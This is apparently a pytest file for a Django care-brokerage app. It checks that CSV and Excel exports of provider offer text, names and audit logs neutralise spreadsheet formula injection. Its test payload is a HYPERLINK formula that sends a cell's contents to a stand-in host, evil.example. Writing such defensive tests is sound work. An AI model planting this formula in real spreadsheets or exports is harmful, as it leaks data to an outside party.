"""Exports never carry a formula: a provider's offer text or a person's name beginning = reaches a council's
spreadsheet as text."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import time_machine
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from caremarket.brokerage import competitions
from caremarket.brokerage.models import Person
from caremarket.brokerage.tests.factories import market
from caremarket.core.spreadsheets import append, safe_cell
from caremarket.domain.roles import Role

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_cells_that_would_run_are_text_and_numbers_stay_numbers():
    for value in (EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(value) == "'" + value
    assert safe_cell("-3.20") == "-3.20" and safe_cell(Decimal("-3.20")) == Decimal("-3.20")
    assert safe_cell("Ada Byrne") == "Ada Byrne" and safe_cell(12) == 12
    book = Workbook()
    append(book.active, [EVIL, Decimal("-1.50")])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(out).active.iter_rows(values_only=True))
    assert row[0] == "'" + EVIL and row[1] == -1.5


def test_offer_text_and_names_reach_csv_exports_as_text(council, make_user, login):
    request, providers, broker, _ = market(council, make_user)
    Person.objects.filter(pk=request.person_id).update(family_name=EVIL)
    now = timezone.now()
    competition = competitions.competition_publish(
        request=request, actor=broker, closes_at=now + timedelta(minutes=5), criteria="x", now=now
    )
    ash, ash_user = providers["Ash"]
    competitions.offer_submit(
        competition=competition,
        provider=ash,
        actor=ash_user,
        price=Decimal("27.00"),
        earliest_start_on=request.start_on,
        how_outcomes_met=EVIL,
        now=now,
    )
    client = login(broker)
    with time_machine.travel(now + timedelta(minutes=10)):
        exported = client.get(f"/brokerage/competitions/{competition.pk}/offers.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    auditor = make_user(council, Role.ORGANISATION_ADMIN)
    audit = login(auditor).get("/audit/export.csv")
    cells = [cell for row in csv.reader(io.StringIO(b"".join(audit.streaming_content).decode())) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
